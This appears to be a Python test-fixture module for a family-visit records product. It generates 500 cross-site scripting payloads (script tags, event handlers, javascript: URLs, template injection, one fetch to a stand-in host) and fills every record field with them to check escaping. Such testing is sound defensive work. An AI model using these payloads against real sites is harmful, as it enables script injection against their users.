"""Five hundred texts that would run as a script if any part of the product took them for more than text; and records
full of them. Nothing here knows a page."""

import re
from itertools import product
from typing import Any

from tests.builders import ROBIN, SAM, STATEMENT, a_baby, a_carer, a_family, a_full_visit, an_observation

MARK = "ranAsCode"
"""What any of them would leave in the page's own names."""
CODE = (
    f"self.{MARK}=1",
    f"top['{MARK}']=1",
    f"eval('{MARK}=1')",
    f"setTimeout('{MARK}=1')",
    f"fetch('https://elsewhere.example/{MARK}')",
)
TRICKS = (
    "<script>{0}</script>",
    '<img src=x onerror="{0}">',
    '<svg onload="{0}"></svg>',
    "<svg><script>{0}</script></svg>",
    '<body onload="{0}">',
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}">x</a>',
    '<form action="javascript:{0}"><button>x</button></form>',
    '<input autofocus onfocus="{0}">',
    '<details open ontoggle="{0}">x</details>',
    '<video><source onerror="{0}"></video>',
    '<audio src=x onerror="{0}"></audio>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    '<meta http-equiv="refresh" content="0;url=javascript:{0}">',
    '<link rel="stylesheet" href="https://elsewhere.example/{0}">',
    '<math><mi xlink:href="javascript:{0}">x</mi></math>',
    "<style>@import 'javascript:{0}';</style>",
    '<marquee onstart="{0}">x</marquee>',
    "<template><script>{0}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "{{{{constructor.constructor(`{0}`)()}}}}",
    "${{{0}}}",
    '<base href="javascript:{0}//">',
)
BREAKOUTS = ("{0}", "\"'>{0}", "</textarea></title></script>{0}", "]]>--></p></td></table>{0}")
TEXTS = tuple(
    breakout.format(trick.format(code)) for breakout, trick, code in product(BREAKOUTS, TRICKS, CODE)
)
MARKUP = re.compile(r"[<>&\"'`${}()\[\]=:/@-]")
LONG_FIELDS = 12
SHORT = 200


def hostile_family() -> dict[str, Any]:
    """The body of a family whose names, needs and languages are such texts; its notes hold the first part of all."""
    short = [text for text in TEXTS if len(text) <= SHORT]
    return a_family(
        babies=[a_baby(name=short[0])],
        carers=[
            a_carer(
                name=short[51],
                relationship="other_carer",
                relationship_note=short[102],
                language=short[153],
                needs=["other"],
                needs_note=short[204],
            )
        ],
        notes=parts()[0],
    )


def hostile_visit() -> dict[str, Any]:
    """The body of a visit that holds the other eleven parts, in whatever somebody types."""
    found = iter(parts())
    next(found)  # the family's notes
    return a_full_visit(
        not_seen=next(found),
        present={"babies": [ROBIN], "carers": [SAM], "others": TEXTS[1]},
        introductions=[{"baby": ROBIN, "showed": next(found)}],
        observations=[an_observation(2, item_notes={"vocalisation": TEXTS[2]})],
        assessment={name: next(found) for name in ("attitude", "responsiveness", "needs_physical")},
        formulation={
            "immediate": {"finding": "none_identified", "protective": next(found), "source": TEXTS[3]},
            "long_term": {
                "finding": "unclear",
                "statements": [{"id": STATEMENT, "text": next(found), "evidence": [f"introduction/{ROBIN}"]}],
                "action": next(found),
                "transmission": next(found),
            },
        },
        for_family=next(found),
        closing_note=next(found),
    )


def parts() -> list[str]:
    """All of them, line by line, in as many long texts as a family and a visit have."""
    size = -(-len(TEXTS) // LONG_FIELDS)
    return ["\n".join(TEXTS[start : start + size]) for start in range(0, len(TEXTS), size)]


def harmless(value: Any) -> Any:
    """The same records with a letter in place of whatever means something in markup or in a script."""
    if isinstance(value, dict):
        return {name: harmless(inner) for name, inner in value.items()}
    if isinstance(value, list):
        return [harmless(inner) for inner in value]
    is_one = isinstance(value, str) and any(text in value for text in TEXTS)
    return MARKUP.sub("x", value) if is_one else value
